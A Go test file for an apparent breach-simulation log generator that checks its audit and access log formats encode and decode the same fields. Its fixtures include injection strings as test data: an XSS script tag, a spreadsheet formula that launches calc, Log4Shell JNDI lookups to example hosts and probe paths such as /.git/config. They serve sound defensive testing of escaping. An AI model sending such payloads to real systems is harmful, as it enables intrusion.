package encode

import (
	"bytes"
	"encoding/json"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	"github.com/breachsim/breachsim/generator/event"
	"github.com/breachsim/breachsim/generator/nir"
	"github.com/breachsim/breachsim/output/encode/schema"
)

// row is one line as every format has to say it: the columns of ours that do
// apply, as text.
type row map[string]string

func (r row) put(column, text string) {
	if text != "" {
		r[column] = text
	}
}

// hostileTexts are texts that formats may stumble on. None has a NUL, which
// PostgreSQL cannot hold and scenarios refuse.
var hostileTexts = []string{"Hôpital Élise-et-Cœur", `a "quoted" name`, `back\slash \n \x41 \u0041`, "tab\there", "line\nbreak\r\nand \x01\x1f\x7f", `]="; key="value`,
	"comma, semicolon;", "%41 + plus", "<script>alert('x')</script>", `\N`, "-", "null", "{}", " lead and trail ", "日本語 \u2028 x", "=cmd|' /C calc'!A0", "${jndi:ldap://x.example}"}

// hostileCatalog has every hostile text in every place for text.
func hostileCatalog() *event.Catalog {
	c := catalog()
	for i, text := range hostileTexts {
		c.Accounts = append(c.Accounts, event.AccountText{ID: fmt.Sprintf("PS%07d", i), Profession: text, Org: text})
		c.Networks = append(c.Networks, event.NetworkText{ASN: 64501, Org: text})
		c.Places = append(c.Places, event.PlaceText{Country: "FR", City: text, Lat: "0.0000", Lon: "-0.5000"})
		c.UserAgents = append(c.UserAgents, text)
	}
	c.Requests = []event.RequestText{{}, {Method: "HEAD", Path: "/"}, {Method: "PROPFIND", Path: "/.git/config"}, {Method: "CONNECT", Path: "smtp.example:25"},
		{Method: "GET", Path: "/?x=${jndi:ldap://probe.example/a}"}, {Path: `\x16\x03\x01\x00{\x01,'&<w`}, {Path: "SSH-2.0-Go"},
		{Path: `\x00\x00`}, {Path: `\xFF\xFD\x09\x0B\x08 a \x22b\x5C\x7F`}, {}}
	c.Releases = []event.AssetNames{{App: "/static/app-1.js", Vendor: "/static/vendor-1.js", Style: "/static/style-1.css"}, {App: "/static/app-2.js", Vendor: "/static/vendor-2.js", Style: "/static/style-2.css"}}
	return c
}

func hex16(v uint64) string {
	if v == 0 {
		return ""
	}
	return fmt.Sprintf("%016x", v)
}

func typed(n nir.NIR, off uint8) string {
	if n == 0 {
		return ""
	}
	return fmt.Sprintf("%s%02d", n, 1+(int(n.Key())-1+int(off))%97)
}

// pathOf is the path with what ends it.
func pathOf(text string, p event.Path, ref uint64, n nir.NIR, off uint8) string {
	text = strings.ReplaceAll(text, "{nir_ref}", fmt.Sprintf("%016x", ref))
	return strings.ReplaceAll(text, "{nir}", typed(n, off))
}

// auditRow is the row of an event, told from the event alone.
func auditRow(cat *event.Catalog, ev *event.Event, mode NIRMode) row {
	r := row{"event_id": fmt.Sprintf("%016x", ev.ID), "ts": time.UnixMicro(ev.TS).UTC().Format("2006-01-02T15:04:05.000000Z")}
	r.put("action", ev.Action.String())
	r.put("outcome", ev.Outcome.String())
	r.put("reason", ev.Reason.String())
	if ev.Account != event.NoAccount {
		a := cat.Accounts[ev.Account]
		r.put("account", a.ID)
		r.put("profession", a.Profession)
		r.put("org", a.Org)
	}
	r.put("auth_method", ev.Auth.String())
	r.put("session_id", hex16(ev.Session))
	r.put("request_id", hex16(ev.Request))
	if !ev.Addr.IsZero() {
		r.put("src_ip", ev.Addr.Netip().String())
	}
	if ev.Port > 0 {
		r.put("src_port", fmt.Sprint(ev.Port))
	}
	if ev.Net > 0 {
		r.put("asn", fmt.Sprint(cat.Networks[ev.Net].ASN))
	}
	p := cat.Places[ev.Place]
	r.put("as_org", cat.Networks[ev.Net].Org)
	r.put("country", p.Country)
	r.put("city", p.City)
	r.put("lat", p.Lat)
	r.put("lon", p.Lon)
	r.put("user_agent", cat.UserAgents[ev.UserAgent])
	r.put("client_fp", hex16(ev.ClientFP))
	r.put("service", ev.Service.String())
	r.put("method", ev.Method.String())
	r.put("path", pathOf(ev.Path.String(), ev.Path, ev.NIRRef, ev.NIR, ev.KeyOff))
	if ev.Status > 0 {
		r.put("status", fmt.Sprint(ev.Status))
		r.put("req_bytes", fmt.Sprint(ev.ReqBytes))
		r.put("resp_bytes", fmt.Sprint(ev.RespBytes))
		r.put("latency_us", fmt.Sprint(ev.LatencyUS))
	}
	switch mode {
	case HMAC:
		r.put("nir_ref", hex16(ev.NIRRef))
	case Clear:
		r.put("nir", typed(ev.NIR, ev.KeyOff))
	}
	if ev.PatientDept != event.NoPlace {
		r.put("patient_dept", cat.Departments[ev.PatientDept])
	}
	r.put("result", ev.Result.String())
	if ev.Persons >= 0 {
		r.put("persons_returned", fmt.Sprint(ev.Persons))
	}
	return r
}

func accessRow(cat *event.Catalog, a *event.Access) row {
	r := row{"ts": time.UnixMicro(a.TS).UTC().Format("2006-01-02T15:04:05.000000Z"), "status": fmt.Sprint(a.Status), "req_bytes": fmt.Sprint(a.ReqBytes),
		"resp_bytes": fmt.Sprint(a.RespBytes), "latency_us": fmt.Sprint(a.LatencyUS), "request_id": hex16(a.Request)}
	if !a.Addr.IsZero() {
		r.put("src_ip", a.Addr.Netip().String())
	}
	if a.Account != event.NoAccount {
		r.put("account", cat.Accounts[a.Account].ID)
	}
	r.put("user_agent", cat.UserAgents[a.UserAgent])
	r.put("http_version", map[bool]string{false: "1.1", true: "2"}[a.HTTP2])
	r.put("session_digest", hex16(a.Cookie))
	switch a.Referer {
	case event.NoPath:
	case event.PathSignInPush:
		r.put("referer", "https://identite.example/")
	default:
		r.put("referer", "https://portal.example"+cat.Path(a.Referer, a.Release))
	}
	if x := cat.Requests[a.Strange]; a.Strange != 0 {
		r.put("method", x.Method)
		r.put("path", x.Path)
		if x.Method == "" { // no HTTP, and no header
			delete(r, "http_version")
			delete(r, "referer")
		}
		return r
	}
	r.put("method", a.Method.String())
	r.put("path", pathOf(cat.Path(a.Path, a.Release), a.Path, a.Asked, nir.NIR(a.Asked), a.KeyOff))
	return r
}

func drawEvent(t *rapid.T, cat *event.Catalog) event.Event {
	below := func(n int, what string) int { return rapid.IntRange(0, n-1).Draw(t, what) }
	maybe := func(what string) uint64 { return rapid.OneOf(rapid.Just(uint64(0)), rapid.Uint64()).Draw(t, what) }
	ev := event.Event{TS: at + int64(below(1<<40, "ts")), ID: rapid.Uint64().Draw(t, "id"), Session: maybe("session"), Request: maybe("request"), ClientFP: maybe("fp"),
		NIRRef: maybe("ref"), Account: uint32(below(len(cat.Accounts), "account")), LatencyUS: rapid.Uint32().Draw(t, "latency"),
		ReqBytes: rapid.Uint32().Draw(t, "req"), RespBytes: rapid.Uint32().Draw(t, "resp"), Port: uint16(maybe("port")), Net: uint16(below(len(cat.Networks), "net")),
		Place: uint16(below(len(cat.Places), "place")), UserAgent: uint16(below(len(cat.UserAgents), "agent")), Persons: int16(below(20, "persons") - 1),
		PatientDept: uint8(below(len(cat.Departments), "dept")), KeyOff: uint8(below(97, "off")), Action: event.Action(1 + below(len(event.Actions())-1, "action")),
		Outcome: event.Outcome(below(3, "outcome")), Reason: event.Reason(below(len(event.Reasons()), "reason")), Auth: event.Auth(below(4, "auth")),
		Service: event.Service(below(len(event.Services()), "service")), Method: event.Method(below(3, "method")), Path: event.Path(below(len(event.Paths()), "path")),
		Result: event.Result(below(len(event.Results()), "result"))}
	if rapid.Bool().Draw(t, "has status") {
		ev.Status = uint16(100 + below(500, "status"))
	}
	if rapid.Bool().Draw(t, "has number") || ev.Path.ByNumber() {
		ev.NIR = nir.Make(1+uint8(below(2, "sex")), uint8(below(100, "year")), 1+uint8(below(12, "month")), nir.PlaceOf("2A", 999), uint16(below(999, "order")))
	}
	switch below(3, "address") {
	case 0:
		ev.Addr = event.V4(rapid.Uint32().Draw(t, "v4"))
	case 1:
		ev.Addr = event.Addr{Hi: 0x3fff << 48, Lo: rapid.Uint64().Draw(t, "v6")}
	}
	if below(4, "nobody") == 0 {
		ev.Account = event.NoAccount
	}
	if below(3, "no dept") == 0 {
		ev.PatientDept = event.NoPlace
	}
	return ev
}

func drawAccess(t *rapid.T, cat *event.Catalog) event.Access {
	ev := drawEvent(t, cat)
	ev.Status = max(ev.Status, 200)
	a := event.Access{TS: ev.TS, Request: ev.Request | 1, Addr: ev.Addr, Account: ev.Account, LatencyUS: ev.LatencyUS, ReqBytes: ev.ReqBytes, RespBytes: ev.RespBytes,
		Status: ev.Status, UserAgent: ev.UserAgent, Method: event.GET + ev.Method%2, Path: max(ev.Path, 1), KeyOff: ev.KeyOff, Asked: ev.NIRRef}
	if a.Path.ByNumber() {
		a.Asked = uint64(ev.NIR)
	}
	a.HTTP2, a.Cookie = rapid.Bool().Draw(t, "http2"), rapid.OneOf(rapid.Just(uint64(0)), rapid.Uint64()).Draw(t, "cookie")
	a.Referer = event.Path(rapid.IntRange(0, len(event.Paths())-1).Draw(t, "referer"))
	if a.Path >= event.PathAssetApp && a.Path <= event.PathAssetStyle {
		a.Release = uint8(rapid.IntRange(0, len(cat.Releases)-1).Draw(t, "release"))
	}
	if rapid.IntRange(0, 3).Draw(t, "stranger") == 0 {
		a.Strange, a.Method, a.Path, a.Asked, a.Release = uint16(rapid.IntRange(1, len(cat.Requests)-1).Draw(t, "request")), 0, 0, 0, 0
		a.HTTP2 = a.HTTP2 && cat.Requests[a.Strange].Method != ""
	}
	return a
}

// TestEveryAuditFormatSaysTheSame decodes random events, with hostile texts
// wherever there is text, from every format: each gives the same row.
func TestEveryAuditFormatSaysTheSame(t *testing.T) {
	cat := hostileCatalog()
	texts := NewTexts(cat)
	for _, mode := range []NIRMode{HMAC, Clear, Omit} {
		for _, f := range formatsOf(schema.Audit) {
			encode, decode := texts.Audit(f, mode), auditDecoders[f.Name]
			if decode == nil {
				t.Fatalf("no decoder of %s", f.Name)
			}
			rapid.Check(t, func(t *rapid.T) {
				ev := drawEvent(t, cat)
				line := encode(nil, &ev)
				if !f.Columnar && f.Name != "csv" && int64(bytes.Count(line, []byte("\n"))) != f.RowLines() {
					t.Fatalf("%s: not %d lines: %q", f.Name, f.RowLines(), line)
				}
				got, err := decode(line, mode)
				if err != nil {
					t.Fatalf("%s: %v\n%s", f.Name, err, line)
				}
				same(t, f.Name, auditRow(cat, &ev, mode), got, line)
			})
		}
	}
}

func TestEveryAccessFormatSaysTheSame(t *testing.T) {
	paris, err := time.LoadLocation("Europe/Paris")
	if err != nil {
		t.Fatal(err)
	}
	cat := hostileCatalog()
	texts := NewTexts(cat)
	for _, f := range formatsOf(schema.Access) {
		encode, decode := texts.Access(f, paris), accessDecoders[f.Name]
		if decode == nil {
			t.Fatalf("no decoder of %s", f.Name)
		}
		rapid.Check(t, func(t *rapid.T) {
			a := drawAccess(t, cat)
			line := encode(nil, &a)
			want := accessRow(cat, &a)
			if known := accessPrecision[f.Name]; known != nil {
				known(want)
			}
			got, err := decode(line)
			if err != nil {
				t.Fatalf("%s: %v\n%s", f.Name, err, line)
			}
			same(t, f.Name, want, got, line)
		})
	}
}

// same compares rows; numbers such as 48.1200 may lose their last noughts.
func same(t *rapid.T, name string, want, got row, line []byte) {
	for k := range want {
		a, errA := strconv.ParseFloat(want[k], 64)
		b, errB := strconv.ParseFloat(got[k], 64)
		if (k == "lat" || k == "lon") && errA == nil && errB == nil && a == b {
			continue
		}
		if want[k] != got[k] {
			t.Fatalf("%s: %s is %q, want %q\n%s", name, k, got[k], want[k], line)
		}
	}
	for k := range got {
		if _, there := want[k]; !there {
			t.Fatalf("%s: has %s %q, which the event has not\n%s", name, k, got[k], line)
		}
	}
}

// The truth of a request changes no byte of its line, in any format.
func TestNoFormatTellsTheTruthOfARequest(t *testing.T) {
	cat := hostileCatalog()
	texts := NewTexts(cat)
	for _, f := range formatsOf(schema.Access) {
		encode := texts.Access(f, time.UTC)
		rapid.Check(t, func(t *rapid.T) {
			a := drawAccess(t, cat)
			plain := slices.Clone(encode(nil, &a))
			a.Truth = event.Truth{Label: event.Attack, Campaign: 1, Phase: event.Scrape, Purpose: event.ListScraping, CausedBy: 2, Number: 7}
			a.Event = rapid.Uint64().Draw(t, "event")
			if !bytes.Equal(plain, encode(nil, &a)) {
				t.Fatalf("%s depends on the truth", f.Name)
			}
		})
	}
}

// flat makes a row of dotted keys of a JSON object; the first element stands
// for a list.
func flat(into row, prefix string, v any) {
	switch v := v.(type) {
	case map[string]any:
		for k, inner := range v {
			flat(into, strings.TrimPrefix(prefix+"."+k, "."), inner)
		}
	case []any:
		flat(into, prefix+"[]", v[0])
	case nil:
	default:
		into[prefix] = fmt.Sprint(v)
	}
}

func flatJSON(line []byte) (row, error) {
	d := json.NewDecoder(bytes.NewReader(line))
	d.UseNumber()
	var v any
	if err := d.Decode(&v); err != nil {
		return nil, err
	}
	r := row{}
	flat(r, "", v)
	return r, nil
}

func TestLogsAllocateNothing(t *testing.T) {
	texts := NewTexts(catalog())
	ev, a := lookUp(), event.Access{TS: at, Addr: event.V4(0xf0090107), Status: 200, UserAgent: 1}
	buf := make([]byte, 0, 8192)
	for _, f := range Formats() {
		line := func() {}
		if audit := texts.Audit(f, HMAC); audit != nil {
			line = func() { audit(buf, &ev) }
		} else if access := texts.Access(f, time.UTC); access != nil {
			line = func() { access(buf, &a) }
		}
		if n := testing.AllocsPerRun(100, line); n != 0 {
			t.Errorf("%s %s: %v allocations a line", f.Stream, f.Name, n)
		}
	}
}

// formatsOf lists the formats of a log.
func formatsOf(stream schema.Stream) []Format {
	return slices.DeleteFunc(Formats(), func(f Format) bool { return f.Stream != stream })
}

// formatNamed is the format of a log with a name.
func formatNamed(name string) Format {
	found, err := LogFormats([]string{name})
	if err != nil {
		panic(err)
	}
	return found[len(found)-1]
}
